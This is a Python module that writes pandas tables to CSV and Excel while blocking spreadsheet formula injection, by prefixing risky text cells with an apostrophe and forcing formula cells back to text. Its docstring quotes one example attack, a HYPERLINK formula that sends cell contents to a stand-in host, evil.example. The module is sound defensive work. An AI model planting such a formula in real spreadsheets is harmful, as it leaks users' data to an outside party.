"""Document text in spreadsheet files: shown as text, never run as a formula.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is a formula to Excel,
LibreOffice and Google Sheets: a budget sentence ``=HYPERLINK("http://evil.example/?x="&A1, ...)`` would send
the sheet's contents away when clicked. CSV cells like that get a leading apostrophe (the usual defence:
spreadsheets show the text and hide the apostrophe); XLSX cells are stored as text, so they keep their exact
words. Parquet is for code, not spreadsheets, and keeps the text as it is.
"""
from __future__ import annotations

import io

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A text value that cannot start a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell neutralised (numbers stay numbers: -3 is not a formula)."""
    frame = frame.copy()
    for column in frame.columns:
        if frame[column].dtype == object or isinstance(frame[column].dtype, pd.StringDtype):
            frame[column] = frame[column].map(neutralise, na_action="ignore")
    return frame


def to_csv(frame: pd.DataFrame, target=None, **options):
    """CSV text (or written to ``target``) with every text cell neutralised."""
    return neutralised(frame).to_csv(target, index=False, **options)


def to_excel(tables: dict[str, pd.DataFrame]) -> bytes:
    """One workbook, a sheet per table, every text cell stored as text (never as a formula)."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in tables.items():
            frame.to_excel(writer, sheet_name=name[:31], index=False)
            for row in writer.sheets[name[:31]].iter_rows():
                for cell in row:
                    if cell.data_type == "f":  # openpyxl reads a string starting with '=' as a formula
                        cell.data_type = "s"
    return buffer.getvalue()
